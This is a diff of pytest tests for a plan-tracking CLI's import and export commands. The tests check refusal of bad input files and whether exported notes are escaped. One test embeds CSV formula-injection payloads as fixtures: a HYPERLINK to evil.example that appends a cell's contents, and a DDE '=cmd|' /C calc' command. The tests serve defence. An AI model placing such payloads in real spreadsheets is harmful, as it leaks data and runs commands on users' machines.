@@ -475,3 +475,93 @@ def test_outbox_lists_failed_and_unknown_mail_and_an_admin_settles_them(tmp_path
     no_flag = pulse(tmp_path, "outbox", "resolve", review_id)
     assert no_flag.returncode == 2
     assert "--sent or --not-sent" in no_flag.stderr
+
+
+def _summary(out: subprocess.CompletedProcess[str]) -> str:
+    assert out.returncode == 0, out.stderr
+    return out.stdout.splitlines()[0]
+
+
+@pytest.mark.postgres
+def test_people_file_without_emails_is_refused_naming_it(tmp_path: Path, db_url: str) -> None:
+    """`pulse import` with a people file that has no email column fails naming that file,
+    and the addresses already stored stay: the same import with the right file changes no
+    one."""
+    assert import_small(tmp_path, db_url).returncode == 0
+    lines = (PLANS / "small-people.csv").read_text(encoding="utf-8").splitlines()
+    no_email = tmp_path / "no-email.csv"
+    no_email.write_text(
+        "\n".join(",".join(line.split(",")[:2]) for line in lines) + "\n", encoding="utf-8"
+    )
+    args = ["import", PLANS / "small-plan.csv", "--plan", "small"]
+    out = pulse(tmp_path, *args, "--people", no_email, db_url=db_url)
+    assert out.returncode == 1
+    assert out.stderr.startswith(f"{no_email}: 1 problem(s); nothing was imported")
+    assert "no 'email' column" in out.stderr
+    assert "Traceback" not in out.stderr
+    again = pulse(tmp_path, *args, "--people", PLANS / "small-people.csv", db_url=db_url)
+    assert "people +0 ~0" in _summary(again)
+
+
+@pytest.mark.postgres
+def test_export_of_formula_notes_reimports_with_no_change(tmp_path: Path, db_url: str) -> None:
+    """Notes that a spreadsheet would run as formulas come out of `pulse export` as text in
+    both formats, and importing either export changes nothing and records nothing."""
+    hostile = '"=HYPERLINK(""http://evil.example/""&C2,""Details"")"'
+    text = (PLANS / "small-plan.csv").read_text(encoding="utf-8")
+    plan = tmp_path / "plan.csv"
+    plan.write_text(
+        text.replace("Drafting with partners", hostile).replace(
+            "Q3 dashboard published", "=cmd|' /C calc'!A0"
+        ),
+        encoding="utf-8",
+    )
+    common = ["--people", PLANS / "small-people.csv", "--networks", PLANS / "small-networks.csv"]
+    first = pulse(
+        tmp_path,
+        "import",
+        plan,
+        "--plan",
+        "small",
+        *common,
+        "--ratings-as-of",
+        "2026-11-16",
+        db_url=db_url,
+    )
+    assert "ratings recorded 6" in _summary(first)
+    for fmt in ("csv", "xlsx"):
+        exported = tmp_path / f"board.{fmt}"
+        out = pulse(
+            tmp_path, "export", "--plan", "small", "--format", fmt, "-o", exported, db_url=db_url
+        )
+        assert out.returncode == 0, out.stderr
+        again = _summary(pulse(tmp_path, "import", exported, "--plan", "small", db_url=db_url))
+        assert "actions +0 ~0 retired 0; milestones +0 ~0 retired 0" in again
+        assert "ratings recorded 0" in again
+    csv_text = (tmp_path / "board.csv").read_text(encoding="utf-8-sig")
+    assert "'=cmd|' /C calc'!A0" in csv_text
+    digest = pulse(tmp_path, "digest", "--plan", "small", "--as-of", "2026-11-20", db_url=db_url)
+    notes = {
+        item["note"]
+        for d in json.loads(digest.stdout)
+        for name in ("overdue", "achieved")
+        for item in d[name]
+    }
+    assert notes == {'=HYPERLINK("http://evil.example/"&C2,"Details")', "=cmd|' /C calc'!A0"}
+
+
+@pytest.mark.postgres
+def test_nul_character_in_a_plan_is_one_line_naming_the_cell(tmp_path: Path, db_url: str) -> None:
+    """A NUL character in a plan cell, which PostgreSQL cannot store, is refused with one line
+    naming its row and column, and nothing is imported."""
+    text = (PLANS / "small-plan.csv").read_text(encoding="utf-8")
+    plan = tmp_path / "plan.csv"
+    plan.write_text(text.replace("Drafting with", "Drafting\x00with"), encoding="utf-8")
+    common = ["--people", PLANS / "small-people.csv", "--networks", PLANS / "small-networks.csv"]
+    out = pulse(tmp_path, "import", plan, "--plan", "small", *common, db_url=db_url)
+    assert out.returncode == 1
+    assert out.stderr.splitlines() == [
+        f"{plan}: 1 problem(s); nothing was imported",
+        "  error: row 2, column 'Notes': holds a NUL character, which cannot be stored: remove it",
+    ]
+    assert pulse(tmp_path, "status", "--plan", "small", db_url=db_url).returncode == 1
